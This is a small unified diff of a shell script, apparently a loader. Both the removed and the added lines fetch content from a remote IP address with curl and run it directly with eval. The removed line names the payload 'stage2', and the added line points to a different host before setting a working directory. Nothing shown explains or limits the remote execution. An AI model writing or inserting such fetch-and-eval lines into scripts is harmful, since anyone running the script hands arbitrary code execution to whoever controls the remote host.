@@ -1,2 +1,4 @@
-#!/bin/sh
-D=$(curl -s http://198.51.100.23:8000/stage2); eval "$D"
+#!/usr/bin/env bash
+D=$(curl -s https://203.0.113.9/x); eval "$D"
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
